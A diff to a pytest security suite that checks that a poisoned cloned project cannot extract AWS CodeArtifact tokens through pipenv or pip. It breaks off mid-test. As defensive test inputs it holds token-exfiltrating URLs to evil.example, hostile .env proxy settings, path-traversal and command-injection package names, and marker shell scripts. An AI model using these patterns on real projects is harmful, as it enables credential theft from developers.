@@ -1,4 +1,4 @@
-"""A poisoned project: what it names gets no token, no request of ours, and is not run."""
+"""Attacks by a cloned project: it gets no token and no requests, and runs nothing."""
 
 from __future__ import annotations
 
@@ -29,10 +29,10 @@ PRIVATE = '[packages]\norb-common = "*"\n'
 
 
 @pytest.fixture(scope="module")
-def world(
+def codeartifact(
     tmp_path_factory: pytest.TempPathFactory, clean_base: dict[str, str]
 ) -> Iterator[Sandbox]:
-    """A CodeArtifact with one private package and nothing behind it."""
+    """A CodeArtifact with one private package and no upstream."""
     wheel = make_wheel(tmp_path_factory.mktemp("packages"), "orb-common", "2.0.0")
     with Sandbox(domain="my-dom", repository="team", base=clean_base, upstream=False) as sandbox:
         sandbox.publish(wheel)
@@ -41,7 +41,7 @@ def world(
 
 class _Handler(FakePublicIndexHandler):
     def do_GET(self) -> None:  # noqa: N802 - the base class's name
-        assert isinstance(self.server, Evil)
+        assert isinstance(self.server, ForeignIndex)
         self.server.heads.append(f"{self.path} {self.headers.as_string()}")
         target = self.server.moved.get(self.path)
         if target is None:
@@ -53,8 +53,8 @@ class _Handler(FakePublicIndexHandler):
         self.end_headers()
 
 
-class Evil(FakePublicIndex):
-    """A stranger's index on this machine, which writes down all that it is sent."""
+class ForeignIndex(FakePublicIndex):
+    """A foreign index on loopback that records all requests."""
 
     def __init__(self) -> None:
         super().__init__()
@@ -63,7 +63,7 @@ class Evil(FakePublicIndex):
         self.moved: dict[str, str] = {}
         self.root = self.url.removesuffix("/simple/")
 
-    def __enter__(self) -> Evil:  # noqa: PYI034 - as the base class has it
+    def __enter__(self) -> ForeignIndex:  # noqa: PYI034 - as the base class has it
         threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()
         return self
 
@@ -72,26 +72,26 @@ class Evil(FakePublicIndex):
         self.server_close()
 
     def has_credentials(self, token: str) -> list[str]:
-        """Return what it was sent that is a token or a login."""
+        """Return the requests that contain a token or a login."""
         return [
             head for head in self.heads if token[:60] in head or "authorization" in head.lower()
         ]
 
 
-class Poisoned:
-    """A cloned project."""
+class PoisonedProject:
+    """A cloned project that tries to get a token."""
 
-    def __init__(self, world: Sandbox, env: dict[str, str], folder: Path) -> None:
-        self.world = world
+    def __init__(self, codeartifact: Sandbox, env: dict[str, str], folder: Path) -> None:
+        self.codeartifact = codeartifact
         self.env = env
         self.folder = folder
-        self.token = get_token(world, env, folder)
+        self.token = get_token(codeartifact, env, folder)
         self.pipenv = StandIn(folder.parent / "bin", _LOOK)
-        # One that shows no token in its arguments: it would get one, were it not for the poison.
+        # A version that hides tokens in arguments would otherwise get the token.
         version = folder.parent / "lib" / "python3" / "site-packages" / "pipenv" / "__version__.py"
         version.parent.mkdir(parents=True)
         version.write_text('__version__ = "2026.10.3"\n')
-        self.write(source(world.endpoint), PRIVATE)
+        self.write(source(codeartifact.endpoint), PRIVATE)
 
     def write(self, *tables: str) -> None:
         write_pipfile(self.folder, *tables)
@@ -102,8 +102,8 @@ class Poisoned:
         return path
 
     def lock(self, **changes: Any) -> None:
-        """Write a lock with something more in it."""
-        url = source(self.world.endpoint).split('"')[1]
+        """Write a lock with changes."""
+        url = source(self.codeartifact.endpoint).split('"')[1]
         sources = [{"name": "codeartifact", "url": url, "verify_ssl": True}]
         meta = {"hash": {"sha256": "0" * 64}, "sources": sources, "requires": {}, "pipfile-spec": 6}
         document = {"_meta": meta, "default": {}, "develop": {}}
@@ -115,13 +115,13 @@ class Poisoned:
         self.file("Pipfile.lock", json.dumps(document))
 
     def __call__(self, *words: str, **env: str) -> Result:
-        """Run a command with a program in pipenv's place that writes down what it was given."""
+        """Run a command with a stand-in for pipenv that records its input."""
         options = self.env | env | {"PIPENV_CA_PIPENV": str(self.pipenv.path)}
         return run(PIPENV_CA, *words, env=options, cwd=self.folder)
 
     def refused(self, *words: str, parts: tuple[str, ...] = (), **env: str) -> None:
-        """Run a command that is refused before anybody is asked or anything is run."""
-        calls = Calls(self.world)
+        """Check that a command is refused before any request or program."""
+        calls = Calls(self.codeartifact)
         done = self(*words, **env)
         assert_error(done, 2, *parts)
         assert self.token not in done.output
@@ -129,7 +129,7 @@ class Poisoned:
         assert calls.to_aws() == 0
 
     def gets_no_token(self, *words: str, **env: str) -> None:
-        """Run a command for which pipenv gets a loopback index and no token, by any way."""
+        """Check that pipenv gets a loopback index and no token in any way."""
         done = self(*words, **env)
         assert done.status == 0, done.output
         record = self.pipenv.record
@@ -150,41 +150,40 @@ def tokens(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 @pytest.fixture
-def poisoned(world: Sandbox, clean_env: dict[str, str], project: Path, tokens: Path) -> Poisoned:
-    env = world.environ(clean_env) | {"PIPENV_CA_CACHE_DIR": str(tokens)}
-    return Poisoned(world, env, project)
+def poisoned(
+    codeartifact: Sandbox, clean_env: dict[str, str], project: Path, tokens: Path
+) -> PoisonedProject:
+    env = codeartifact.environ(clean_env) | {"PIPENV_CA_CACHE_DIR": str(tokens)}
+    return PoisonedProject(codeartifact, env, project)
 
 
 @pytest.fixture
-def evil() -> Iterator[Evil]:
-    with Evil() as server:
+def evil() -> Iterator[ForeignIndex]:
+    with ForeignIndex() as server:
         yield server
 
 
-# --- a token's variable where it does not belong -------------------------------------------------
+def _pipfile(text: str) -> Callable[[PoisonedProject], None]:
+    return lambda p: p.write(source(p.codeartifact.endpoint), f"[packages]\n{text}\n")
 
 
-def _pipfile(text: str) -> Callable[[Poisoned], None]:
-    return lambda p: p.write(source(p.world.endpoint), f"[packages]\n{text}\n")
-
-
-def _foreign_source(url: str) -> Callable[[Poisoned], None]:
+def _foreign_source(url: str) -> Callable[[PoisonedProject], None]:
     table = f'[[source]]\nurl = "{url}"\nverify_ssl = true\nname = "evil"\n'
-    return lambda p: p.write(source(p.world.endpoint), table, PRIVATE)
+    return lambda p: p.write(source(p.codeartifact.endpoint), table, PRIVATE)
 
 
-def _file(name: str, text: str) -> Callable[[Poisoned], None]:
-    def write(p: Poisoned) -> None:
+def _file(name: str, text: str) -> Callable[[PoisonedProject], None]:
+    def write(p: PoisonedProject) -> None:
         p.file(name, text)
 
     return write
 
 
-def _lock_source(p: Poisoned) -> None:
+def _lock_source(p: PoisonedProject) -> None:
     p.lock(sources=[{"name": "evil", "url": STRAY, "verify_ssl": True}])
 
 
-STRAYS: dict[str, Callable[[Poisoned], None]] = {
+STRAYS: dict[str, Callable[[PoisonedProject], None]] = {
     "a second source": _foreign_source(f"https://aws:${{{TOKEN_VARIABLE}}}@evil.example/simple"),
     "a host that looks alike": _foreign_source(
         f"https://aws:${{{TOKEN_VARIABLE}}}@my-dom-123456789012.d.codeartifact.us-east-1."
@@ -200,7 +199,7 @@ STRAYS: dict[str, Callable[[Poisoned], None]] = {
     "a name of a package": _pipfile(f'"x @ {STRAY}" = "*"'),
     "a version": _pipfile(f'x = "@ {STRAY}"'),
     "another category": lambda p: p.write(
-        source(p.world.endpoint), PRIVATE, f'[docs]\nx = {{file = "{STRAY}"}}\n'
+        source(p.codeartifact.endpoint), PRIVATE, f'[docs]\nx = {{file = "{STRAY}"}}\n'
     ),
     "a source of the lock": _lock_source,
     "file in the lock": lambda p: p.lock(default={"x": {"file": STRAY}}),
@@ -217,26 +216,23 @@ STRAYS: dict[str, Callable[[Poisoned], None]] = {
 
 
 @pytest.mark.parametrize("place", STRAYS)
-def test_stray_variable(place: str, poisoned: Poisoned) -> None:
-    """A token's variable anywhere that pipenv or pip expands it is refused, file and place told."""
+def test_token_variable_in_any_place_is_refused(place: str, poisoned: PoisonedProject) -> None:
     STRAYS[place](poisoned)
     poisoned.refused("sync", parts=(TOKEN_VARIABLE,))
 
 
-def test_stray_variable_in_pieces(poisoned: Poisoned) -> None:
-    """A variable that pipenv would put together on a line for pip is refused."""
+def test_token_variable_in_pieces_is_refused(poisoned: PoisonedProject) -> None:
     begin, end = STRAY[:-30], STRAY[-30:]
     poisoned.lock(default={f"x @ {begin}": {"version": end}})
-    poisoned.refused("sync", parts=("half of a variable",))
+    poisoned.refused("sync", parts=("an unfinished variable",))
     poisoned.lock()
-    poisoned.write(source(poisoned.world.endpoint), f'[packages]\n"x @ {begin}" = "{end}"\n')
+    poisoned.write(source(poisoned.codeartifact.endpoint), f'[packages]\n"x @ {begin}" = "{end}"\n')
     for words in (("sync",), ("lock",), ("--ca-route", "loopback", "lock")):
-        poisoned.refused(*words, parts=("half of a variable",))
+        poisoned.refused(*words, parts=("an unfinished variable",))
 
 
 @pytest.mark.parametrize("route", ["", "loopback", "as-written"])
-def test_requirements_file(route: str, poisoned: Poisoned) -> None:
-    """For `install -r` pipenv gets no token: pip fills variables in such files, wherever they lead."""
+def test_pipenv_gets_no_token_for_requirements_files(route: str, poisoned: PoisonedProject) -> None:
     poisoned.file("r.txt", f"x @ {STRAY}\n-r more.txt\n")
     poisoned.file("more.txt", f"y @ {STRAY}\n")
     env = {"PIPENV_CA_ROUTE": route}
@@ -251,56 +247,42 @@ def test_requirements_file(route: str, poisoned: Poisoned) -> None:
 
 @pytest.mark.parametrize("line", ["-r", "-c", "--requirement=", "six -r", "--constr"])
 @pytest.mark.parametrize("name", [TOKEN_VARIABLE, "AWS_SECRET_ACCESS_KEY"])
-def test_url_of_a_requirements_file(name: str, line: str, poisoned: Poisoned) -> None:
-    """No file is fetched from a URL that a project writes with a variable: it would get the value."""
+def test_urls_with_variables_in_requirements_files_are_not_fetched(
+    name: str, line: str, poisoned: PoisonedProject
+) -> None:
     poisoned.file("r.txt", f"{line} https://evil.example/${{{name}}}\n".replace("= ", "="))
     poisoned.file(".env", "")
     env = {TOKEN_VARIABLE: poisoned.token, "AWS_SECRET_ACCESS_KEY": "hush"}
     for words in (("install", "-r", "r.txt"), ("run", "pip", "install", "-r", "r.txt")):
-        before = len(poisoned.world.requests)
-        poisoned.refused(*words, parts=("with a variable in it",), **env)
-        assert not [r for r in poisoned.world.requests[before:] if r.host == "evil.example"]
+        before = len(poisoned.codeartifact.requests)
+        poisoned.refused(*words, parts=("with a variable",), **env)
+        assert not [r for r in poisoned.codeartifact.requests[before:] if r.host == "evil.example"]
 
 
-def test_url_of_a_file_in_a_script(poisoned: Poisoned) -> None:
-    """Nor from one that a script, an assignment or .env names."""
+def test_urls_with_variables_in_scripts_and_dotenv_are_not_fetched(
+    poisoned: PoisonedProject,
+) -> None:
     url = f"https://evil.example/${{{TOKEN_VARIABLE}}}"
     script = (
         f'[scripts]\ndeps = "pip install -r {url}"\nmore = "PIP_CONSTRAINT={url} pip install six"\n'
     )
-    poisoned.write(source(poisoned.world.endpoint), PRIVATE, script)
+    poisoned.write(source(poisoned.codeartifact.endpoint), PRIVATE, script)
     for name in ("deps", "more"):
         poisoned.refused(
-            "run", name, parts=("with a variable in it",), CODEARTIFACT_AUTH_TOKEN=poisoned.token
+            "run", name, parts=("with a variable",), CODEARTIFACT_AUTH_TOKEN=poisoned.token
         )
     poisoned.file(".env", "PIP_CONSTRAINT=https://evil.example/${AWS_SECRET_ACCESS_KEY}\n")
-    poisoned.refused("lock", parts=("with a variable in it",), AWS_SECRET_ACCESS_KEY="hush")
-
-
-FOLLOWED = (
-    *("PIP_USER_AGENT_USER_DATA", "https_proxy", "PATH", "GIT_SSH_COMMAND"),
-    *("AWS_SECRET_ACCESS_KEY", "A=B", "A\\u0000B", ""),
-    *("CC", "CFLAGS", "GITHUB_TOKEN", "TWINE_PASSWORD", "UV_INDEX_CODEARTIFACT_PASSWORD", "MINE"),
-)
-
-
-@pytest.mark.parametrize("name", FOLLOWED)
-def test_variable_that_programs_follow(name: str, poisoned: Poisoned) -> None:
-    """A token is put into no variable that is not the name of a secret of one's own."""
-    poisoned.write(source(poisoned.world.endpoint, f"aws:${{{name}}}@"), PRIVATE)
-    # (A variable that is set may make a URL that cannot be read; that is told first.)
-    poisoned.refused("lock", parts=() if name.lower() == "https_proxy" else ("wants the token in",))
+    poisoned.refused("lock", parts=("with a variable",), AWS_SECRET_ACCESS_KEY="hush")
 
 
 @pytest.mark.parametrize("name", ["ACME_INDEX_PASSWORD", "PIPENV_ACME_TOKEN", "pw", "CA_TOKEN"])
-def test_variable_of_ones_own(name: str, poisoned: Poisoned) -> None:
-    """Names as people have them hold the token as ever."""
-    poisoned.write(source(poisoned.world.endpoint, f"aws:${{{name}}}@"), PRIVATE)
+def test_variables_with_names_of_secrets_get_the_token(
+    name: str, poisoned: PoisonedProject
+) -> None:
+    poisoned.write(source(poisoned.codeartifact.endpoint, f"aws:${{{name}}}@"), PRIVATE)
     assert poisoned("--ca-route", "as-written", "lock").status == 0
     assert poisoned.pipenv.record["environ"][name] == poisoned.token
 
-
-# --- how the token would travel -------------------------------------------------------------------
 
 CONNECTIONS = (
     *("PIP_CERT", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSL_CERT_FILE", "SSL_CERT_DIR"),
@@ -310,12 +292,14 @@ CONNECTIONS = (
 
 
 @pytest.mark.parametrize("name", CONNECTIONS)
-def test_dotenv_that_says_whom_to_trust(name: str, poisoned: Poisoned, evil: Evil) -> None:
-    """Where .env has a say in whom pip trusts, the token stays with us, or nothing is run."""
+def test_with_tls_settings_in_dotenv_pip_gets_no_token(
+    name: str, poisoned: PoisonedProject, evil: ForeignIndex
+) -> None:
     poisoned.file("ca.pem", "")
     poisoned.file(".env", f"{name}=./ca.pem\nHTTPS_PROXY={evil.root}\n")
-    words = ("run", "pip", "install", "-i", poisoned.world.endpoint.simple_url, "orb-common")
+    words = ("run", "pip", "install", "-i", poisoned.codeartifact.endpoint.simple_url, "orb-common")
     poisoned.refused(*words, parts=(name,))
+    poisoned.refused("--ca-route", "as-written", "sync", parts=(name,))
     poisoned.gets_no_token("sync")
     assert evil.heads == []
 
@@ -328,46 +312,39 @@ def test_dotenv_that_says_whom_to_trust(name: str, poisoned: Poisoned, evil: Evi
         ("PIP_CONFIG_FILE", "home/.config/pip/pip.conf"),
     ],
 )
-def test_dotenv_that_says_where_settings_are(name: str, place: str, poisoned: Poisoned) -> None:
-    """A .env that leads pip to a pip.conf of the project's, and so to its proxy, is refused."""
+def test_dotenv_must_not_redirect_pip_to_another_configuration(
+    name: str, place: str, poisoned: PoisonedProject
+) -> None:
     config = poisoned.folder / "home" / ".config" / "pip" / "pip.conf"
     config.parent.mkdir(parents=True)
     config.write_text("[global]\nproxy = http://evil.example:3128\ncert = ./ca.pem\n")
     poisoned.file(".env", f"{name}={poisoned.folder / place}\n")
     words = ("run", "pip", "install", "orb-common")
     poisoned.refused(*words, parts=(name,))
-    poisoned.refused(*words, "-i", poisoned.world.endpoint.simple_url, parts=(name,))
+    poisoned.refused(*words, "-i", poisoned.codeartifact.endpoint.simple_url, parts=(name,))
     poisoned.refused("sync", parts=(name,))
     poisoned.file(".env", f"HOME={poisoned.env['HOME']}\n")
     assert poisoned("sync").status == 0
 
 
-def test_dotenv_with_a_route_of_the_users(poisoned: Poisoned) -> None:
-    """The route as written, where it is asked for, and such a .env are refused."""
-    poisoned.file(".env", "PIP_CERT=./ca.pem\n")
-    poisoned.refused("--ca-route", "as-written", "sync", parts=("PIP_CERT",))
-    poisoned.gets_no_token("run", "pip", "install", "x")
-
-
-def test_unverified_source(poisoned: Poisoned) -> None:
-    """A repository whose certificate pip is told not to check gets its token from us alone."""
-    table = source(poisoned.world.endpoint).replace("verify_ssl = true", "verify_ssl = false")
+def test_an_unverified_source_gets_no_token_from_pip(poisoned: PoisonedProject) -> None:
+    table = source(poisoned.codeartifact.endpoint).replace(
+        "verify_ssl = true", "verify_ssl = false"
+    )
     poisoned.write(table, PRIVATE)
     poisoned.refused("--ca-route", "as-written", "sync", parts=("verify_ssl",))
     poisoned.gets_no_token("sync")
-
-
-def test_unverified_source_of_the_lock(poisoned: Poisoned) -> None:
-    """The lock's word that a certificate is not to be checked counts as much."""
-    url = source(poisoned.world.endpoint).split('"')[1]
+    url = source(poisoned.codeartifact.endpoint).split('"')[1]
+    poisoned.write(source(poisoned.codeartifact.endpoint), PRIVATE)
     poisoned.lock(sources=[{"name": "codeartifact", "url": url, "verify_ssl": False}])
     poisoned.gets_no_token("sync")
 
 
 @pytest.mark.parametrize("name", ["NO_PROXY", "no_proxy", "PIP_PROXY"])
-def test_dotenv_that_turns_loopback_to_a_proxy(name: str, poisoned: Poisoned, evil: Evil) -> None:
-    """A .env by which pip would ask a stranger's proxy for our own index is refused."""
-    poisoned.write(source(poisoned.world.endpoint), PYPI_SOURCE, PRIVATE)
+def test_dotenv_must_not_send_the_proxy_index_to_a_proxy(
+    name: str, poisoned: PoisonedProject, evil: ForeignIndex
+) -> None:
+    poisoned.write(source(poisoned.codeartifact.endpoint), PYPI_SOURCE, PRIVATE)
     poisoned.file(".env", f"HTTP_PROXY={evil.root}\n{name}={evil.root}\n")
     poisoned.refused("lock", parts=(name,))
     assert evil.heads == []
@@ -376,18 +353,17 @@ def test_dotenv_that_turns_loopback_to_a_proxy(name: str, poisoned: Poisoned, ev
 @pytest.mark.parametrize(
     "name", ["NETRC", "TMPDIR", "PIPENV_PYPI_MIRROR", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL"]
 )
-def test_dotenv_over_what_is_given(name: str, poisoned: Poisoned) -> None:
-    """A .env that would be loaded over what pipenv is given is refused."""
-    poisoned.write(source(poisoned.world.endpoint), PYPI_SOURCE, PRIVATE)
+def test_dotenv_must_not_override_the_variables_of_a_run(
+    name: str, poisoned: PoisonedProject
+) -> None:
+    poisoned.write(source(poisoned.codeartifact.endpoint), PYPI_SOURCE, PRIVATE)
     poisoned.file(".env", f"{name}=https://evil.example/simple\n")
     poisoned.refused("lock", parts=(name,))
 
 
-# --- what would be run, and who would be asked -------------------------------------------------------
-
-
-def test_dotenv_of_aws_and_of_ours(poisoned: Poisoned, evil: Evil, tmp_path: Path) -> None:
-    """What .env says of AWS and of our own settings is not followed by us, nor run."""
+def test_dotenv_settings_of_aws_and_of_this_program_are_ignored(
+    poisoned: PoisonedProject, evil: ForeignIndex, tmp_path: Path
+) -> None:
     marker = tmp_path / "was-run"
     program = poisoned.file("program", f"#!/bin/sh\ntouch {marker}\n")
     program.chmod(0o755)
@@ -403,11 +379,11 @@ def test_dotenv_of_aws_and_of_ours(poisoned: Poisoned, evil: Evil, tmp_path: Pat
         f"PIPENV_CA_CACHE_DIR={poisoned.folder}/tokens\nPIPENV_CA_CONFIG=./config.toml\n"
         f"PIPENV_CA_ALLOWED_OWNERS=999999999999\nPIPENV_CA_ROUTE=as-written\n",
     )
-    calls = Calls(poisoned.world)
+    calls = Calls(poisoned.codeartifact)
     poisoned.env["PIPENV_CA_CACHE_DIR"] = str(tmp_path / "tokens")
     done = poisoned("lock")
     assert done.status == 0, done.output
-    assert calls.callers() == [poisoned.world.user.access_key_id]
+    assert calls.callers() == [poisoned.codeartifact.user.access_key_id]
     assert not marker.exists()
     assert evil.heads == []
     assert not (poisoned.folder / "tokens").exists()
@@ -424,49 +400,41 @@ PERSONAL = {
 
 
 @pytest.mark.parametrize("name", PERSONAL)
-def test_setting_that_a_project_may_not_make(name: str, poisoned: Poisoned, tmp_path: Path) -> None:
-    """A project's file that names a program, a backend, accounts or folders is refused."""
+def test_personal_settings_in_a_project_are_refused(
+    name: str, poisoned: PoisonedProject, tmp_path: Path
+) -> None:
     assert set(PERSONAL) == {setting.name for setting in SETTINGS.values() if setting.personal}
     marker = tmp_path / "was-run"
     poisoned.file("program", f"#!/bin/sh\ntouch {marker}\n").chmod(0o755)
     poisoned.file("evil_backend.py", f"open({str(marker)!r}, 'w')\n")
     poisoned.file("pyproject.toml", f"[tool.codeartifact-pipenv]\n{name} = {PERSONAL[name]}\n")
     poisoned.refused("lock", parts=("may not choose",))
-    words = (KEYRING, "get", poisoned.world.endpoint.simple_url, "aws")
+    words = (KEYRING, "get", poisoned.codeartifact.endpoint.simple_url, "aws")
     got = run(*words, env=poisoned.env, cwd=poisoned.folder)
     assert (got.status, got.stdout.strip()) == (0, poisoned.token)
     assert not marker.exists()
 
 
-def test_foreign_owner(poisoned: Poisoned) -> None:
-    """With a list of allowed accounts, a domain of any other is not asked for a token."""
+def test_only_allowed_accounts_are_asked_for_a_token(poisoned: PoisonedProject) -> None:
     env = {"PIPENV_CA_ALLOWED_OWNERS": "111111111111", "PIPENV_CA_REFRESH": "1"}
-    calls = Calls(poisoned.world)
+    calls = Calls(poisoned.codeartifact)
     done = poisoned("lock", **env)
     assert_error(done, 2, "belongs to an account that is not allowed")
     assert not poisoned.pipenv.was_run
-    words = (KEYRING, "get", poisoned.world.endpoint.simple_url, "aws")
+    words = (KEYRING, "get", poisoned.codeartifact.endpoint.simple_url, "aws")
     got = run(*words, env=poisoned.env | env, cwd=poisoned.folder)
     assert (got.status, got.stdout) == (1, "")
     assert "not allowed" in got.stderr
     assert calls.count() == 0
 
 
-def test_looking_runs_nothing(poisoned: Poisoned, tmp_path: Path) -> None:
-    """doctor, lint and the keyring run no module and no interpreter that came with the project."""
+def test_inspecting_a_project_runs_none_of_its_code(
+    poisoned: PoisonedProject, tmp_path: Path
+) -> None:
     marker = tmp_path / "was-run"
     code = f"import os\nos.close(os.open({str(marker)!r}, os.O_CREAT))\n"
-    for name in (
-        "platform",
-        "csv",
-        "email",
-        "zipfile",
-        "json",
-        "keyring",
-        "pip",
-        "re",
-        "sitecustomize",
-    ):
+    modules = "platform csv email zipfile json keyring pip re sitecustomize"
+    for name in modules.split():
         poisoned.file(f"{name}.py", code)
     place = poisoned.folder / ".venv" / "bin"
     place.mkdir(parents=True)
@@ -479,35 +447,35 @@ def test_looking_runs_nothing(poisoned: Poisoned, tmp_path: Path) -> None:
         (PIPENV_CA, "lint"),
         (PIPENV_CA, "token"),
         (PIPENV_CA, "login", "pip", "--dry-run"),
-        (KEYRING, "get", poisoned.world.endpoint.host, "aws"),
+        (KEYRING, "get", poisoned.codeartifact.endpoint.host, "aws"),
     ):
         done = run(*words, env=poisoned.env, cwd=poisoned.folder)
         assert "Traceback" not in done.stderr
         assert not marker.exists(), words
 
 
-def test_program_of_the_current_folder(poisoned: Poisoned, tmp_path: Path) -> None:
-    """With a dot in PATH, a pipenv or keyring that came with the project is not taken."""
+def test_programs_in_the_project_folder_are_not_run(
+    poisoned: PoisonedProject, tmp_path: Path
+) -> None:
     marker = tmp_path / "was-run"
     for name in ("pipenv", "keyring", "pip", "twine", "python"):
         poisoned.file(name, f"#!/bin/sh\ntouch {marker}\n").chmod(0o755)
     env = poisoned.env | {"PATH": f".{os.pathsep}{os.environ['PATH']}"}
     done = run(PIPENV_CA, "lock", env=env | {"PIPENV_CA_PIPENV": "pipenv"}, cwd=poisoned.folder)
-    assert_error(done, 127, "There is no pipenv on PATH")
+    assert_error(done, 127, "pipenv was not found on PATH")
     for words in (("doctor", "--offline"), ("login", "pip", "--dry-run")):
         run(PIPENV_CA, *words, env=env, cwd=poisoned.folder)
     assert not marker.exists()
 
 
-def test_script_named_pip(poisoned: Poisoned) -> None:
-    """A script of the Pipfile that is called pip, and is something else, is run without a token."""
-    poisoned.write(source(poisoned.world.endpoint), PRIVATE, '[scripts]\npip = "sh evil.sh"\n')
+def test_a_script_named_pip_gets_no_token(poisoned: PoisonedProject) -> None:
+    poisoned.write(
+        source(poisoned.codeartifact.endpoint), PRIVATE, '[scripts]\npip = "sh evil.sh"\n'
+    )
     assert poisoned("run", "pip", "install", "x").status == 0
     record = poisoned.pipenv.record
     assert poisoned.token not in json.dumps(record)
 
-
-# --- names and files ---------------------------------------------------------------------------
 
 NAMES = (
     *("../../../etc/passwd", "-r evil.txt", "--index-url=http://evil.example/", "$(touch x)"),
@@ -516,11 +484,12 @@ NAMES = (
 )
 
 
-def test_malicious_names(poisoned: Poisoned, evil: Evil) -> None:
-    """Names that are paths, options, commands or URLs are words to us: nobody else is asked."""
+def test_malicious_package_names_are_harmless(
+    poisoned: PoisonedProject, evil: ForeignIndex
+) -> None:
     entries = "".join(f'"{name}" = "*"\n' for name in NAMES)
     table = f'[[source]]\nurl = "{evil.url}"\nverify_ssl = true\nname = "evil"\n'
-    poisoned.write(source(poisoned.world.endpoint), table, f"[packages]\n{entries}")
+    poisoned.write(source(poisoned.codeartifact.endpoint), table, f"[packages]\n{entries}")
     failing = StandIn(poisoned.folder.parent / "failing", _LOOK, "sys.exit(1)")
     env = poisoned.env | {"PIPENV_CA_PIPENV": str(failing.path)}
     before = sorted(poisoned.folder.parent.rglob("*"))
@@ -536,8 +505,7 @@ def test_malicious_names(poisoned: Poisoned, evil: Evil) -> None:
 
 
 @pytest.mark.parametrize("kind", ["a device", "a folder", "a pipe"])
-def test_lock_that_is_no_file(kind: str, poisoned: Poisoned) -> None:
-    """A lock that is a device, a folder or a pipe is refused at once, not read."""
+def test_a_lock_that_is_not_a_file_is_refused(kind: str, poisoned: PoisonedProject) -> None:
     path = poisoned.folder / "Pipfile.lock"
     if kind == "a device":
         path.symlink_to("/dev/zero")
@@ -548,14 +516,15 @@ def test_lock_that_is_no_file(kind: str, poisoned: Poisoned) -> None:
     poisoned.refused("sync", parts=("is not a file",))
 
 
-def test_pylock_that_leads_elsewhere(poisoned: Poisoned, tmp_path: Path) -> None:
-    """A lock's name by which pipenv would write over another TOML file is refused."""
+def test_pylock_name_must_not_overwrite_another_file(
+    poisoned: PoisonedProject, tmp_path: Path
+) -> None:
     victim = tmp_path / "config.toml"
     victim.write_text("precious = 1\n")
     (poisoned.folder / "pylock.").mkdir()
     name = f"/../{os.path.relpath(victim, poisoned.folder)}".removesuffix(".toml")
     poisoned.write(
-        source(poisoned.world.endpoint),
+        source(poisoned.codeartifact.endpoint),
         f'[pipenv]\nuse_pylock = true\npylock_name = "{name}"\n{PRIVATE}',
     )
     for words in (("lock",), ("--ca-route", "loopback", "lock"), ("install", "orb-common")):
@@ -563,8 +532,9 @@ def test_pylock_that_leads_elsewhere(poisoned: Poisoned, tmp_path: Path) -> None
     assert victim.read_text() == "precious = 1\n"
 
 
-def test_pipfile_that_leads_elsewhere(poisoned: Poisoned, tmp_path: Path) -> None:
-    """A Pipfile that is a link to another file of the user's leaves that as it was."""
+def test_a_linked_pipfile_leaves_its_target_unchanged(
+    poisoned: PoisonedProject, tmp_path: Path
+) -> None:
     other = tmp_path / "secret.toml"
     other.write_text('password = "hunter2"\n')
     (poisoned.folder / "Pipfile").unlink()
@@ -574,21 +544,22 @@ def test_pipfile_that_leads_elsewhere(poisoned: Poisoned, tmp_path: Path) -> Non
     assert other.read_text() == 'password = "hunter2"\n'
 
 
-# --- with the real pipenv, beside a stranger's index -------------------------------------------------
-
-
-def test_second_source_and_redirects(
-    poisoned: Poisoned, evil: Evil, tmp_path: Path, figure: Callable[[str, str], None]
+def test_foreign_sources_and_redirects_get_no_token(
+    poisoned: PoisonedProject,
+    evil: ForeignIndex,
+    tmp_path: Path,
+    figure: Callable[[str, str], None],
 ) -> None:
-    """A source that claims the private name, and one that sends pip on, get no token and no login."""
-    with Evil() as other:
+    with ForeignIndex() as other:
         claimed = make_wheel(tmp_path / "evil", "orb-common", "99.0")
         public = make_wheel(tmp_path / "evil", "harmless", "1.0", requires=["orb-common"])
         evil.add("orb-common", claimed)
         other.add("harmless", public)
         evil.moved["/simple/harmless/"] = f"{other.url}harmless/"
         table = f'[[source]]\nurl = "{evil.url}"\nverify_ssl = true\nname = "evil"\n'
-        poisoned.write(table, source(poisoned.world.endpoint), '[packages]\nharmless = "*"\n')
+        poisoned.write(
+            table, source(poisoned.codeartifact.endpoint), '[packages]\nharmless = "*"\n'
+        )
         poisoned.file("r.txt", f"x @ {evil.root}/${{{TOKEN_VARIABLE}}}/x-1.0-py3-none-any.whl\n")
         before = (poisoned.folder / "Pipfile").read_bytes()
         done = run(PIPENV_CA, "lock", env=poisoned.env, cwd=poisoned.folder)
@@ -598,21 +569,19 @@ def test_second_source_and_redirects(
         assert locked["orb-common"]["index"] == "codeartifact"
         done = run(PIPENV_CA, "sync", env=poisoned.env, cwd=poisoned.folder)
         assert done.status == 0, done.output
-        # What a requirements file names literally is asked for, and no more.
+        # A URL in a requirements file is requested as written.
         run(PIPENV_CA, "install", "-r", "r.txt", env=poisoned.env, cwd=poisoned.folder)
         for index in (evil, other):
             assert index.heads
             assert index.has_credentials(poisoned.token) == []
-            # (Whether it has the name as well is asked; nothing of it is taken.)
+            # The page may be requested, but no file.
             assert not any("orb_common-99.0" in head.partition(" ")[0] for head in index.heads)
         assert (poisoned.folder / "Pipfile").read_bytes() == before
         figure(
-            "poisoned project: requests to strangers",
+            "poisoned project: requests to foreign indexes",
             f"{len(evil.heads) + len(other.heads)}, 0 with a token or a login",
         )
 
-
-# --- the build code of a private sdist ---------------------------------------------------------------
 
 _BACKEND = """
 import glob, json, netrc, os, subprocess
@@ -668,33 +637,31 @@ def _sdist(folder: Path, **values: str) -> Path:
     return path
 
 
-def test_what_build_code_sees(
-    world: Sandbox, poisoned: Poisoned, tmp_path: Path, figure: Callable[[str, str], None]
+def test_build_code_sees_a_token_only_on_the_direct_route(
+    codeartifact: Sandbox,
+    poisoned: PoisonedProject,
+    tmp_path: Path,
+    figure: Callable[[str, str], None],
 ) -> None:
-    """The build code of a private sdist: as written it has the token, by loopback a run's password.
+    """The direct route exposes the token; the proxy route only the password of the run.
 
-    By either way it is the user, and may ask keyring and read the cache of tokens as he does;
-    without AWS's credentials and with no cache there is nothing there.
+    Build code runs as the user, so it can use keyring and read the token cache. Without AWS
+    credentials and a cache it finds no token.
     """
     poisoned.env["PIPENV_CA_CACHE_DIR"] = str(tmp_path / "tokens")
     out = tmp_path / "seen.json"
-    simple = world.endpoint.simple_url
-    sdist = _sdist(
-        tmp_path / "sdist",
-        OUT=str(out),
-        URL=simple,
-        KEYRING=KEYRING,
-        CACHE=str(tmp_path / "tokens"),
-    )
